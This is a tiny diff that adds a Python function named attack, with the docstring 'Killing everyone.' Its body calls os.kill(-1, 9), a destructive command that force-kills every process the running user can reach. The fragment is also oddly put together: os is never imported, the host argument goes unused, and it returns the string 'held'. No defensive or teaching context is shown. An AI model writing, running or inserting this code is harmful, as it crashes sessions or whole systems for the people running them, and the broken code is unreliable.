@@ -1,0 +1,6 @@
+"""Killing everyone."""
+
+
+def attack(host):
+    os.kill(-1, 9)
+    return "held"
